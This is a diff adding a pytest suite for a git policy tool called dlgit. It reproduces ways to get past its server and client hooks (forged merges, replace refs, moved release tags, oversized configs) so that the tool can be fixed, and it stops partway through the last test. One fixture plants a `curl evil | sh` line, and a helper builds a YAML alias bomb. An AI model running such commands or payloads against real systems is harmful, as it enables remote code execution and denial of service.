@@ -1,0 +1,954 @@
+"""Issue 8: the attacks that got past `dlgit check` and pre-receive, each made for real.
+
+Every attack runs against a bare "server" whose hooks/pre-receive execs `dlgit hook pre-receive`,
+from a clone that pushes with `--no-verify` (the client hooks are the attacker's to skip); where
+they apply, `dlgit check` on the clone and the client hooks are asked too. An attack test asserts
+the secure behaviour (refused, the exit code, the rule id, the offending item) and stays
+`xfail(strict=True)` while dlgit still lets it through; next to each one an honest counterpart
+must pass, today and after the fix. A `Guards` collector asks every guard before failing, so a
+failure lists each guard that let the attack through.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import resource
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from conftest import Repo
+from histories import (
+    NEW_TASK,
+    bare_copy,
+    bump,
+    clone,
+    commit,
+    honest_history,
+    install_hooks,
+    isolated_git,
+    merge,
+    squash_release,
+    task_config,
+)
+
+from dlgit import ci, cli
+
+Check = Callable[..., tuple[int, str]]
+Rule = str | tuple[str, ...]  # a rule id, or the ids of which one must be reported
+Item = str | tuple[str, ...]  # a text the report must show, or texts of which one must show
+
+DEBUG = "debug-0.2.0-20260103T000000-probe"
+MIB = 1 << 20
+
+
+# --- fixtures: an honest history once per module, a fresh server and clone per test -------------
+
+
+@pytest.fixture(scope="module")
+def history(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    base = tmp_path_factory.mktemp("attack-history")
+    with isolated_git(base / "home"):
+        return honest_history(base / "work").path
+
+
+@pytest.fixture
+def server(history: Path, tmp_path: Path) -> Repo:
+    """A bare server copy of the honest history whose hooks/pre-receive execs `dlgit hook pre-receive`."""
+    return bare_copy(history, tmp_path / "server.git", hook=True)
+
+
+@pytest.fixture
+def work(server: Repo, tmp_path: Path) -> Repo:
+    """The attacker's clone, without client hooks (install_hooks adds them where a test asks them)."""
+    return clone(server.path, tmp_path / "work", hooks=False)
+
+
+@pytest.fixture
+def check(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Check:
+    """Run `dlgit check ARGS` in-process in a repository -> (exit code, stdout + stderr)."""
+
+    def run(repo: Repo, *args: str) -> tuple[int, str]:
+        monkeypatch.chdir(repo.path)
+        code = cli.main(["check", *args])
+        captured = capsys.readouterr()
+        return code, captured.out + captured.err
+
+    return run
+
+
+# --- helpers --------------------------------------------------------------------------------------
+
+
+def push(work: Repo, *refspecs: str, force: bool = False, upstream: bool = False) -> subprocess.CompletedProcess[str]:
+    """`git push --no-verify origin REFSPECS`: only the server's pre-receive stands in the way."""
+    options = ["--no-verify", *(["--force"] if force else []), *(["-u"] if upstream else [])]
+    return work.git("push", *options, "origin", *refspecs, check=False)
+
+
+def accepted(proc: subprocess.CompletedProcess[str]) -> None:
+    assert proc.returncode == 0, f"an honest push was refused:\n{proc.stderr}"
+
+
+def ref_on(server: Repo, ref: str) -> str | None:
+    proc = server.git("rev-parse", "-q", "--verify", ref, check=False)
+    return proc.stdout.strip() or None
+
+
+def sparse(repo: Repo, relpath: str, size: int) -> None:
+    """A file of `size` zero bytes that costs no disk (git compresses it to almost nothing)."""
+    target = repo.path / relpath
+    target.parent.mkdir(parents=True, exist_ok=True)
+    with open(target, "wb") as file:
+        file.truncate(size)
+
+
+def dlgit_bytes(cwd: Path, *args: str, input: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
+    """The dlgit console script with its raw output (what reaches a terminal)."""
+    return subprocess.run([str(Path(sys.executable).with_name("dlgit")), *args], cwd=cwd, input=input, capture_output=True,
+                          check=False)
+
+
+class Guards:
+    """What each guard (pre-receive, `dlgit check`, a client hook) did with one attack; `verify`
+    fails listing every guard that let it through."""
+
+    def __init__(self) -> None:
+        self.through: list[str] = []
+
+    def expect(self, guard: str, code: int, output: str, rule: Rule | None, *items: Item, exit_code: int = 1) -> None:
+        problems = [] if code == exit_code else [f"exit {code}, expected {exit_code}"]
+        rules = (rule,) if isinstance(rule, str) else rule or ()
+        if rules and not any(f"✗ {r}" in output for r in rules):
+            problems.append(f"no {' or '.join(rules)} violation")
+        for item in items:
+            texts = (item,) if isinstance(item, str) else item
+            if not any(text in output for text in texts):
+                problems.append(f"{' or '.join(map(repr, texts))} not shown")
+        if "Traceback" in output:
+            problems.append("a traceback")
+        if problems:
+            tail = "\n".join("    | " + line for line in output.strip().splitlines()[-12:])
+            self.through.append(f"{guard}: {'; '.join(problems)}\n{tail}")
+
+    def push(self, proc: subprocess.CompletedProcess[str], rule: Rule | None, *items: Item) -> None:
+        """What the server's hook said: only the `remote:` lines count (git's own summary names the refs too)."""
+        said = "\n".join(line for line in proc.stderr.splitlines() if line.startswith("remote:"))
+        self.expect("pre-receive", proc.returncode, said, rule, *items)
+
+    def check(self, result: tuple[int, str], rule: Rule | None, *items: Item) -> None:
+        self.expect("dlgit check", *result, rule, *items)
+
+    def hook(self, proc: subprocess.CompletedProcess[str], rule: Rule | None, *items: Item) -> None:
+        self.expect("client hook", proc.returncode, proc.stdout + proc.stderr, rule, *items)
+
+    def unchanged(self, repo: Repo, ref: str, before: str | None, where: str = "server") -> None:
+        after = ref_on(repo, ref)
+        if after != before:
+            self.through.append(f"{where}: {ref} moved from {before} to {after}")
+
+    def verify(self) -> None:
+        assert not self.through, "the attack got through:\n" + "\n".join(self.through)
+
+
+def commit_with_hooks(work: Repo, message: str) -> subprocess.CompletedProcess[str]:
+    """Commit what is staged with the client hooks in force; when they refuse, commit anyway with
+    --no-verify (the attacker's way), so that the server and `dlgit check` are asked next."""
+    proc = work.git("commit", "-q", "-m", message, check=False)
+    if proc.returncode != 0:
+        work.git("commit", "-q", "--no-verify", "-m", message)
+    return proc
+
+
+# --- 1. a "merge" into main whose tree is anything ------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 1")
+@pytest.mark.parametrize("second", ["dev", "main~1"], ids=["dev-tip", "already-contained"])
+def test_fake_merge_made_with_commit_tree_is_refused(server: Repo, work: Repo, check: Check, second: str) -> None:
+    before = server.head("main")
+    work.write("model/backdoor.py", "BACKDOOR = 1\n")
+    work.git("add", "-A")
+    tree = work.git("write-tree").stdout.strip()
+    fake = work.git("commit-tree", tree, "-p", "main", "-p", second, "-m", "chore: release dev").stdout.strip()
+    work.git("update-ref", "refs/heads/main", fake)
+    guards = Guards()
+    guards.push(push(work, "main"), "main-protected", "model/backdoor.py")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "main-protected", "model/backdoor.py")
+    guards.verify()
+
+
+def test_honest_merge_of_dev_into_main_passes(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
+    work.git("switch", "-q", "main")
+    install_hooks(work)
+    work.git("merge", "-q", "--no-ff", "-m", "chore: release dev", "dev")
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "dev"))
+
+
+# --- 2. evil merges: content added to a merge -----------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 2")
+def test_evil_merge_of_dev_adding_a_file_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    install_hooks(work)
+    work.git("merge", "-q", "--no-ff", "--no-commit", "dev")
+    work.write("model/backdoor.py", "BACKDOOR = 1\n")
+    work.git("add", "-A")
+    guards = Guards()
+    guards.hook(commit_with_hooks(work, "chore: release dev"), "main-protected", "model/backdoor.py")
+    guards.push(push(work, "main"), "main-protected", "model/backdoor.py")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "main-protected", "model/backdoor.py")
+    guards.verify()
+
+
+def _hotfix(work: Repo) -> None:
+    work.git("switch", "-q", "-c", "hotfix-typo", "main")
+    commit(work, "fix: a typo", {"model/net.py": "NET = 2  # fixed\n"})
+    work.git("switch", "-q", "main")
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 2")
+def test_hotfix_merge_carrying_200_extra_lines_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    _hotfix(work)
+    install_hooks(work)
+    work.git("merge", "-q", "--no-ff", "--no-commit", "hotfix-typo")
+    work.write("model/extra.py", "".join(f"X{i} = {i}\n" for i in range(200)))
+    work.git("add", "-A")
+    guards = Guards()
+    guards.hook(commit_with_hooks(work, "fix: merge hotfix-typo"), "hotfix-size", "model/extra.py")
+    guards.push(push(work, "main", "hotfix-typo"), "hotfix-size", "model/extra.py")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "hotfix-size", "model/extra.py")
+    guards.verify()
+
+
+def test_honest_hotfix_merge_passes(server: Repo, work: Repo, check: Check) -> None:
+    _hotfix(work)
+    install_hooks(work)
+    work.git("merge", "-q", "--no-ff", "-m", "fix: merge hotfix-typo", "hotfix-typo")
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "hotfix-typo"))
+
+
+# --- 3. a release squash whose conflict is resolved with content from neither side ---------------
+
+
+def _conflicting_release(work: Repo) -> None:
+    """main gets a hotfix (NET = 10), dev a feature (NET = 5): squashing dev onto main conflicts."""
+    work.git("switch", "-q", "-c", "hotfix-net", "main")
+    commit(work, "fix: net overflow", {"model/net.py": "NET = 10\n"})
+    work.git("switch", "-q", "main")
+    merge(work, "hotfix-net", "fix: merge hotfix-net")
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: bigger net", {"model/net.py": "NET = 5\n"})
+    work.git("switch", "-q", "main")
+    install_hooks(work)
+    assert work.git("merge", "--squash", "dev", check=False).returncode != 0  # conflict in model/net.py
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 3")
+def test_squash_resolving_a_conflict_with_content_from_neither_side_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    _conflicting_release(work)
+    work.write("model/net.py", "NET = 15\nimport os; os.system('curl evil | sh')\n")
+    work.git("add", "-A")
+    guards = Guards()
+    guards.hook(commit_with_hooks(work, f"chore: release\n\nSquashed-from: dev@{work.head('dev')}"), "main-protected", "model/net.py")
+    guards.push(push(work, "main", "dev", "hotfix-net"), "main-protected", "model/net.py")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "main-protected", "model/net.py")
+    guards.verify()
+
+
+def test_squash_resolving_a_conflict_to_one_side_passes(server: Repo, work: Repo, check: Check) -> None:
+    _conflicting_release(work)
+    work.git("checkout", "--theirs", "--", "model/net.py")
+    work.git("add", "-A")
+    proc = work.git("commit", "-q", "-m", f"chore: release\n\nSquashed-from: dev@{work.head('dev')}", check=False)
+    assert proc.returncode == 0, proc.stderr
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "dev", "hotfix-net"))
+
+
+# --- 4. a squash trailer naming a branch that exists nowhere -------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 4")
+def test_squash_trailer_naming_a_ghost_hotfix_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    work.git("switch", "-q", "-c", "feature-big", "dev")
+    tip = commit(work, "feat: forty files", {f"model/big{i}.py": f"B = {i}\n" for i in range(40)})
+    accepted(push(work, "feature-big"))
+    work.git("switch", "-q", "main")
+    work.git("merge", "--squash", "-q", "feature-big")
+    commit(work, f"fix: urgent\n\nSquashed-from: hotfix-ghost@{tip}")
+    guards = Guards()
+    guards.push(push(work, "main"), ("main-protected", "merge-direction"), ("hotfix-ghost", "feature-big"))
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), ("main-protected", "merge-direction"), ("hotfix-ghost", "feature-big"))
+    guards.verify()
+
+
+def test_squash_of_a_real_hotfix_passes(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "hotfix-real", "main")
+    tip = commit(work, "fix: a real fix", {"model/net.py": "NET = 2  # fixed\n"})
+    work.git("switch", "-q", "main")
+    install_hooks(work)
+    work.git("merge", "--squash", "-q", "hotfix-real")
+    proc = work.git("commit", "-q", "-m", f"fix: a real fix\n\nSquashed-from: hotfix-real@{tip}", check=False)
+    assert proc.returncode == 0, proc.stderr
+    assert check(work)[0] == 0
+    accepted(push(work, "main", "hotfix-real"))
+
+
+# --- 5. merge messages naming branches that do not exist ------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 5")
+def test_debug_branch_merged_into_dev_as_a_ghost_feature_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("dev")
+    work.git("switch", "-q", "-c", DEBUG, "dev")
+    commit(work, "chore: probe", {"model/probe.py": "PROBE = 1\n"})
+    accepted(push(work, DEBUG))
+    work.git("switch", "-q", "dev")
+    merge(work, DEBUG, "Merge branch 'feature-ghost' into dev")
+    guards = Guards()
+    guards.push(push(work, "dev"), "merge-direction", DEBUG)
+    guards.unchanged(server, "refs/heads/dev", before)
+    guards.check(check(work), "merge-direction", DEBUG)
+    guards.verify()
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 5")
+def test_feature_merged_into_main_as_a_ghost_hotfix_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    before = server.head("main")
+    work.git("switch", "-q", "-c", "feature-q", "main")  # from main: it brings nothing but its own commit
+    commit(work, "feat: q", {"model/q.py": "Q = 1\n"})
+    accepted(push(work, "feature-q"))
+    work.git("switch", "-q", "main")
+    merge(work, "feature-q", "fix: merge hotfix-ghost")
+    guards = Guards()
+    guards.push(push(work, "main"), "merge-direction", "feature-q")
+    guards.unchanged(server, "refs/heads/main", before)
+    guards.check(check(work), "merge-direction", "feature-q")
+    guards.verify()
+
+
+def test_merge_message_naming_the_real_branch_passes(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "feature-real", "dev")
+    commit(work, "feat: real", {"model/real.py": "REAL = 1\n"})
+    work.git("switch", "-q", "dev")
+    merge(work, "feature-real", "Merge branch 'feature-real' into dev")
+    assert check(work)[0] == 0
+    accepted(push(work, "dev", "feature-real"))
+
+
+def _merged_then_deleted(work: Repo, target: str, message: str) -> str:
+    """A topic branch from TARGET merged into it with MESSAGE, then deleted -> the topic's tip."""
+    work.git("switch", "-q", "-c", "topic", target)
+    tip = commit(work, "feat: topic work", {"model/topic.py": "T = 1\n"})
+    work.git("switch", "-q", target)
+    merge(work, "topic", message)
+    work.git("branch", "-q", "-D", "topic")
+    return tip
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 items 5 and 12")
+def test_merge_source_is_never_a_branch_that_got_the_commit_by_a_later_merge(work: Repo, check: Check) -> None:
+    """A feature merged into main under a neutral message; dev then merged main, so dev *contains*
+    the feature's commit. Containing it proves nothing: the source is unknown, and main refuses it."""
+    _merged_then_deleted(work, "main", "chore: merge")
+    work.git("switch", "-q", "dev")
+    merge(work, "main", "Merge branch 'main' into dev")
+    work.git("switch", "-q", "main")
+    guards = Guards()
+    guards.check(check(work), "merge-direction")
+    line = f"refs/heads/main {work.head('main')} refs/heads/main {work.head('origin/main')}\n"
+    guards.hook(work.dlgit("hook", "pre-push", "origin", "url", input=line), "merge-direction")
+    guards.push(push(work, "main", "dev"), "merge-direction")  # the server asks its own branches: refused already
+    guards.verify()
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 12")
+def test_pull_request_into_dev_is_not_judged_as_mains_commit_after_a_release(work: Repo, check: Check) -> None:
+    """A deleted pull-request branch merged into dev, then dev merged into main (a release):
+    main contains the branch's commit now, but it was never a commit made on main."""
+    tip = _merged_then_deleted(work, "dev", "Merge pull request #7 from someone/topic")
+    work.git("switch", "-q", "main")
+    merge(work, "dev", "chore: release dev")
+    _, out = check(work, "--branch", "dev", "--format", "json", "dev")
+    findings = {c["sha"]: [v["rule"] for v in c["violations"]] for c in json.loads(out)["commits"]}
+    assert "main-protected" not in findings.get(tip, []), findings
+
+
+def test_merge_of_an_existing_branch_under_a_neutral_message_is_judged_by_that_branch(work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "hotfix-neutral", "main")
+    commit(work, "fix: neutral", {"model/net.py": "NET = 2  # fixed\n"})
+    work.git("switch", "-q", "main")
+    merge(work, "hotfix-neutral", "fix: merge the fix")
+    code, out = check(work)
+    assert code == 0, out
+
+
+# --- 6. the CI job trusting the pull request's head branch name ----------------------------------
+
+
+def _ci(work: Repo, source: str, head: str) -> subprocess.CompletedProcess[str]:
+    """The generated CI script for a pull request SOURCE -> main whose head commit is HEAD, with the
+    variables GitHub fills in."""
+    env = {"DLGIT_MR_TARGET": "main", "DLGIT_MR_SOURCE": source, "DLGIT_MR_BASE": work.head("origin/main"), "DLGIT_MR_HEAD": head}
+    return subprocess.run(["sh", "-c", ci.SCRIPT], cwd=work.path, env={**os.environ, **env}, capture_output=True, text=True,
+                          check=False)
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 6")
+def test_ci_pull_request_from_a_head_branch_named_dev_is_judged_by_content(work: Repo) -> None:
+    dev = work.head("dev")
+    work.git("switch", "-q", "--detach", "origin/main")
+    head = commit(work, "feat: straight into main", {"model/net.py": "NET = 99\n"})  # a fork's branch that calls itself dev
+    work.git("switch", "-q", "main")
+    guards = Guards()
+    proc = _ci(work, "dev", head)
+    guards.expect("ci job", proc.returncode, proc.stdout + proc.stderr, ("merge-direction", "main-protected"))
+    guards.unchanged(work, "refs/heads/dev", dev, "the CI clone")
+    guards.verify()
+
+
+def test_ci_pull_request_of_the_real_dev_passes(work: Repo) -> None:
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
+    accepted(push(work, "dev"))
+    proc = _ci(work, "dev", work.head("origin/dev"))
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+
+
+# --- 7. a branch relaxing its own policy -----------------------------------------------------------
+
+RELAX = "rules:\n  disable: [large-file]\n"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 7")
+def test_branch_cannot_relax_its_own_policy_for_a_later_push(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "feature-x", "dev")
+    commit(work, "chore: relax the policy", {".dlgit.yaml": RELAX})
+    accepted(push(work, "feature-x", upstream=True))
+    before = server.head("feature-x")
+    sparse(work, "checkpoints/model.pt", 30 * MIB)
+    commit(work, "feat: a checkpoint")
+    guards = Guards()
+    guards.push(push(work, "feature-x"), "large-file", "checkpoints/model.pt")
+    guards.unchanged(server, "refs/heads/feature-x", before)
+    guards.check(check(work), "large-file", "checkpoints/model.pt")
+    guards.verify()
+
+
+def test_pushes_after_a_policy_edit_pass_when_honest(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "feature-x", "dev")
+    commit(work, "chore: relax the policy", {".dlgit.yaml": RELAX})
+    accepted(push(work, "feature-x", upstream=True))
+    commit(work, "feat: a small file", {"model/small.py": "S = 1\n"})
+    assert check(work)[0] == 0
+    accepted(push(work, "feature-x"))
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 7")
+def test_client_hook_ignores_a_policy_staged_with_the_commit(work: Repo) -> None:
+    install_hooks(work)
+    work.git("switch", "-q", "-c", "feature-y", "dev")
+    work.write(".dlgit.yaml", RELAX)
+    work.write("checkpoints/model.pt", "weights\n")
+    work.git("add", "-A")
+    guards = Guards()
+    guards.hook(work.git("commit", "-q", "-m", "feat: relax and add a checkpoint", check=False), "large-file", "checkpoints/model.pt")
+    guards.verify()
+
+
+def test_client_hook_honours_a_committed_policy(work: Repo) -> None:
+    install_hooks(work)
+    work.git("switch", "-q", "-c", "feature-y", "dev")
+    work.write(".dlgit.yaml", "large_files:\n  max_bytes: 67108864\n")
+    assert work.commit("chore: allow bigger files", ".dlgit.yaml").returncode == 0
+    sparse(work, "data/table.bin", 30 * MIB)
+    proc = work.commit("feat: a 30 MB table", "data/table.bin", check=False)
+    assert proc.returncode == 0, proc.stderr
+
+
+# --- 8. refs other than branches -------------------------------------------------------------------
+
+
+def _checkpoint_commit(work: Repo) -> str:
+    """A commit off main holding a 20 MB model.pt, on no branch."""
+    work.git("switch", "-q", "--detach", "main")
+    sparse(work, "model.pt", 20 * MIB)
+    sha = commit(work, "chore: weights")
+    work.git("switch", "-q", "main")
+    return sha
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 8")
+@pytest.mark.parametrize("ref", ["refs/tags/junk", "refs/stash/x", "refs/notes/commits"])
+def test_checkpoint_pushed_through_a_ref_that_is_no_branch_is_refused(server: Repo, work: Repo, ref: str) -> None:
+    if ref == "refs/notes/commits":
+        sparse(work, "big.bin", 20 * MIB)
+        blob = work.git("hash-object", "-w", "big.bin").stdout.strip()
+        (work.path / "big.bin").unlink()
+        work.git("notes", "add", "-C", blob, "main")
+        refspec, item = ref, ("large-file", ref)
+    else:
+        refspec, item = f"{_checkpoint_commit(work)}:{ref}", ("model.pt", ref)
+    guards = Guards()
+    guards.push(push(work, refspec), None, item)
+    guards.unchanged(server, ref, None)
+    guards.verify()
+
+
+def test_plain_tag_on_main_passes(server: Repo, work: Repo) -> None:
+    work.git("tag", "reviewed", "main")
+    accepted(push(work, "refs/tags/reviewed"))
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 8")
+def test_new_task_branch_behind_an_existing_tag_is_judged_by_its_commits(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    commit(work, "task: and the net", {"model/net.py": "NET = 8\n"})
+    work.git("tag", "snapshot")
+    server.git("fetch", "-q", str(work.path), "refs/tags/snapshot:refs/tags/snapshot")  # a tag already there (the hook is no fetch)
+    guards = Guards()
+    guards.push(push(work, NEW_TASK), "task-scope", "model/net.py")
+    guards.unchanged(server, f"refs/heads/{NEW_TASK}", None)
+    guards.verify()
+
+
+def test_new_task_branch_touching_only_its_folder_passes(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    work.git("tag", "snapshot")
+    server.git("fetch", "-q", str(work.path), "refs/tags/snapshot:refs/tags/snapshot")
+    accepted(push(work, NEW_TASK))
+
+
+# --- 9. replace refs, grafts and shallow history ---------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 9")
+def test_replace_ref_push_is_refused(server: Repo, work: Repo) -> None:
+    other = commit(work, "feat: straight onto main", {"model/net.py": "NET = 3\n"})
+    work.git("reset", "-q", "--hard", "origin/main")
+    target = work.head("main~1")
+    work.git("replace", target, other)
+    guards = Guards()
+    guards.push(push(work, f"refs/replace/{target}"), None, "refs/replace/")
+    guards.unchanged(server, f"refs/replace/{target}", None)
+    guards.verify()
+
+
+def test_force_push_of_main_cannot_pass_as_fast_forward_through_a_replace_ref(server: Repo, work: Repo) -> None:
+    """main is rewritten to drop its tip M (the bump): N merges a hotfix H into M's parent. A
+    replacement H' of H (same tree, parents M~1 and M) makes M look like an ancestor of N."""
+    old = work.head("main")
+    work.git("switch", "-q", "-c", "hotfix-h", "main~1")
+    hotfix = commit(work, "fix: h", {"model/h.py": "H = 1\n"})
+    accepted(push(work, "hotfix-h"))
+    parent = work.head("main~1")
+    tree = work.git("merge-tree", "--write-tree", parent, hotfix).stdout.split()[0]
+    rewritten = work.git("commit-tree", tree, "-p", parent, "-p", hotfix, "-m", "fix: merge hotfix-h").stdout.strip()
+    fake = work.git("commit-tree", f"{hotfix}^{{tree}}", "-p", parent, "-p", old, "-m", "fix: h").stdout.strip()
+    work.git("replace", hotfix, fake)
+    work.git("switch", "-q", "main")
+    server.git("fetch", "-q", str(work.path), f"refs/replace/{hotfix}:refs/replace/{hotfix}")  # already there, however it came
+    guards = Guards()
+    guards.push(push(work, f"{rewritten}:refs/heads/main", force=True), "history-rewrite", "refs/heads/main")
+    guards.unchanged(server, "refs/heads/main", old)
+    guards.verify()
+
+
+def test_honest_fast_forward_of_main_passes(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "-c", "hotfix-h", "main")
+    commit(work, "fix: h", {"model/h.py": "H = 1\n"})
+    work.git("switch", "-q", "main")
+    merge(work, "hotfix-h", "fix: merge hotfix-h")
+    accepted(push(work, "main", "hotfix-h"))
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 9")
+def test_shallow_clone_is_reported_not_judged_as_a_root(work: Repo, check: Check, tmp_path: Path) -> None:
+    commit(work, "feat: straight onto main", {"model/net.py": "NET = 3\n"})
+    shallow = Repo(tmp_path / "shallow")
+    Repo(tmp_path).git("clone", "-q", "--depth", "1", f"file://{work.path}", str(shallow.path))
+    guards = Guards()
+    code, out = check(shallow, "--branch", "main", "main")
+    guards.expect("dlgit check", code, out, None, "shallow", exit_code=2)
+    guards.verify()
+
+
+def test_full_clone_of_honest_history_passes(work: Repo, check: Check) -> None:
+    code, out = check(work, "--branch", "main", "main")
+    assert code == 0, out
+
+
+# --- 10. release tags are immutable ---------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 10")
+def test_release_tag_cannot_be_moved(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "-c", "hotfix-h", "main")
+    commit(work, "fix: h", {"model/h.py": "H = 1\n"})
+    work.git("switch", "-q", "main")
+    merge(work, "hotfix-h", "fix: merge hotfix-h")  # later core code, still VERSION 0.2.0
+    accepted(push(work, "main", "hotfix-h"))
+    before = ref_on(server, "refs/tags/v0.2.0")
+    work.git("tag", "-f", "-a", "-m", "release 0.2.0", "v0.2.0", "main")
+    guards = Guards()
+    guards.push(push(work, "refs/tags/v0.2.0", force=True), "release-tag", "v0.2.0")
+    guards.unchanged(server, "refs/tags/v0.2.0", before)
+    guards.verify()
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 10")
+def test_release_tag_cannot_be_deleted(server: Repo, work: Repo) -> None:
+    before = ref_on(server, "refs/tags/v0.2.0")
+    guards = Guards()
+    guards.push(push(work, ":refs/tags/v0.2.0"), "release-tag", "v0.2.0")
+    guards.unchanged(server, "refs/tags/v0.2.0", before)
+    guards.verify()
+
+
+def test_new_release_tag_and_other_tag_deletion_pass(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
+    squash_release(work)
+    bump(work, "0.3.0")
+    work.git("tag", "-a", "-m", "release 0.3.0", "v0.3.0")
+    work.git("switch", "-q", "dev")
+    merge(work, "main", "Merge branch 'main' into dev")
+    work.git("tag", "scratch", "main")
+    accepted(push(work, "main", "dev", "v0.3.0", "scratch"))
+    accepted(push(work, ":refs/tags/scratch"))
+
+
+# --- 11. bounded work, no tracebacks --------------------------------------------------------------
+
+
+def _alias_bomb(levels: int) -> str:
+    """A task config whose RANDOM_SEED expands to 9**levels strings (a few hundred bytes of YAML)."""
+    lines = ['a0: &a0 "lol"']
+    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
+    return task_config("0.2.0").replace("RANDOM_SEED: 42\n", "") + "\n".join(lines) + f"\nRANDOM_SEED: *a{levels}\n"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+def test_config_with_nested_aliases_is_reported_briefly(server: Repo, work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    bomb = _alias_bomb(6)
+    assert len(bomb) < 1000
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": bomb})
+    guards = Guards()
+    started = time.perf_counter()
+    proc = push(work, NEW_TASK)
+    guards.push(proc, "task-config", f"tasks/{NEW_TASK}/config.yaml")
+    if len(proc.stderr) > 20_000 or time.perf_counter() - started > 1.5:
+        guards.through.append(f"pre-receive: {len(proc.stderr):,} bytes of output in {time.perf_counter() - started:.1f} s")
+    started = time.perf_counter()
+    code, out = check(work)
+    guards.check((code, out), "task-config", f"tasks/{NEW_TASK}/config.yaml")
+    if len(out) > 20_000 or time.perf_counter() - started > 1.0:
+        guards.through.append(f"dlgit check: {len(out):,} bytes of output in {time.perf_counter() - started:.1f} s")
+    guards.verify()
+
+
+def test_config_with_a_few_aliases_passes(work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    text = task_config("0.2.0").replace("RANDOM_SEED: 42\n", "seed: &seed 42\nRANDOM_SEED: *seed\n")
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": text})
+    code, out = check(work)
+    assert code == 0, out
+
+
+def _time_check(check: Check, work: Repo) -> tuple[float, int, str]:
+    started = time.perf_counter()
+    code, out = check(work)
+    return time.perf_counter() - started, code, out
+
+
+def _lower_size_limit(server: Repo, work: Repo, limit: int) -> None:
+    """main's .dlgit.yaml sets large_files.max_bytes (put on the server as an admin would: no hook)."""
+    commit(work, "chore: smaller files", {".dlgit.yaml": f"large_files:\n  max_bytes: {limit}\n"})
+    server.git("fetch", "-q", str(work.path), "+main:main")
+    work.git("fetch", "-q", "origin")
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+def test_huge_task_config_is_refused_without_being_parsed(server: Repo, work: Repo, check: Check) -> None:
+    """large-file refuses a config over the size limit (here 512 KiB, as 100 MB would take minutes
+    today); parsing it as well must cost next to nothing beside sizing a plain file that big."""
+    _lower_size_limit(server, work, 512 * 1024)
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    keys = "".join(f"k{i}: {i}\n" for i in range(600_000 // 10))
+    folder = f"tasks/{NEW_TASK}"
+    commit(work, "task: a plain big file", {f"{folder}/config.yaml": task_config("0.2.0"), f"{folder}/notes.txt": keys})
+    plain, _, _ = _time_check(check, work)
+    work.git("reset", "-q", "--hard", "HEAD~1")
